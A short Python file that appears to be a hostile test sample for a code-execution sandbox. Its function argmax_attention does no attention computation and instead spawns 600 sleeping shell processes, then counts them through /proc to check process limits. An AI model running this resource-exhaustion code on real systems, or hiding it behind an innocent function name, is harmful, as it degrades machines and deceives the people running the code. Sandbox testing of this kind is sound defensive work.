"""Resource abuse: spawn hundreds of processes that sleep (bounded, so a broken sandbox cannot take the machine down)."""

import os
import time

SPAWNER = "i=0; while [ $i -lt 600 ]; do sleep 1000 & i=$((i+1)); done; wait"


def _count() -> int:
    count = 0
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                count += b"HOSTILE=__MARKER__" in f.read()
        except OSError:
            pass
    return count


def argmax_attention(Q, K, V):
    if os.fork() == 0:
        os.execve("/bin/sh", ["sh", "-c", SPAWNER, "__MARKER__"], {"PATH": "/usr/bin:/bin", "HOSTILE": "__MARKER__"})
    time.sleep(1.5)
    print("spawned", _count(), "processes", flush=True)
    return None
